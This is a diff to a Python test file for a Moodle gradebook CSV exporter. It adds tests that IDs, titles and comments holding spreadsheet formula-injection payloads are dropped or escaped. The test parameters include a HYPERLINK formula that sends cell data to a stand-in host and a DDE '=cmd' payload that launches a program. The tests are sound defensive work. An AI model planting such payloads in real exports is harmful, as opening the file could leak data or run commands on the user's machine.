@@ -5,6 +5,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from checker.lms.gradebooks import ExportError, export
+from checker.lms.gradebooks.moodle_gradebook import NO_CELL
+from checker.notation.spreadsheet import safe
+from checker.notation.words import shortened
 from tests.lms.importers import tables
 from tests.lms.importers.moodle_gradebook import Gradebook, RefusedBatchError, imported
 from tests.lms.people import HARD, POINTS, grade, only_file, request
@@ -37,7 +40,9 @@ def test_only_students_with_a_grade_get_a_row():
 
 @given(
     st.dictionaries(
-        IDS.map(str.strip).filter(lambda text: text not in {"", "0"}), st.tuples(POINTS, st.booleans()), max_size=6
+        IDS.map(str.strip).filter(lambda text: text not in {"", "0"} and safe(text) == text),
+        st.tuples(POINTS, st.booleans()),
+        max_size=6,
     ),
     st.booleans(),
 )
@@ -71,8 +76,8 @@ def test_scaling_is_to_100():
 
 
 def test_without_all_email_addresses_the_ids_are_used():
-    found = exported(grade("=a", 1.0, email="a@x"), grade("b", 2.0), column="HW 1")
-    assert only_file(found) == b"ID number,HW 1\r\n=a,1\r\nb,2\r\n"
+    found = exported(grade("a", 1.0, email="a@x"), grade("b", 2.0), column="HW 1")
+    assert only_file(found) == b"ID number,HW 1\r\na,1\r\nb,2\r\n"
     assert found.steps[2:4] == (
         "3. Under Identify user by, map from ID number to ID number or Username, whichever your ids are.",
         "4. Under Grade item mappings, map HW 1 to your grade item, and not to a new one.",
@@ -96,6 +101,25 @@ def test_an_id_that_moodle_takes_for_blank_is_left_out_because_its_grade_would_g
     assert imported(only_file(found), Gradebook({"a": 1, "c": 3}))[0] == {1: 1.0, 3: 3.0}
     assert found.notes == (f"Left out, because Moodle takes this id for a blank one: `{id_}`.",)
     assert imported(b"ID number,x\na,1\n0,2\n", Gradebook({"a": 1}))[0] == {1: 2.0}
+
+
+@pytest.mark.parametrize(
+    "id_", ['=HYPERLINK("http://x.example/?"&A1)', "+1", "-1", "@x", "＝1", "\u202es1", "a\x1b[2Jb"]
+)
+def test_an_id_that_is_no_plain_cell_is_left_out_because_another_one_would_undo_the_import(id_):
+    found = exported(grade("a", 1.0), grade(id_, 2.0), grade("c", 3.0))
+    assert tables.read(only_file(found).decode()) == [["ID number", "Homework 1"], ["a", "1"], ["c", "3"]]
+    assert found.notes == (f"{NO_CELL}: {shortened(id_)}.",)
+    assert found.changed == 2
+
+
+def test_the_title_and_comments_are_no_formulas():
+    found = exported(grade("a", 1.0, comment="=1+1"), title="=cmd|' /C calc'!A0")
+    assert tables.read(only_file(found).decode()) == [
+        ["ID number", "'=cmd|' /C calc'!A0", "Feedback"],
+        ["a", "1", "'=1+1"],
+    ]
+    assert "map '=cmd|' /C calc'!A0 to your grade item" in found.steps[3]
 
 
 def test_no_two_students_have_one_id():
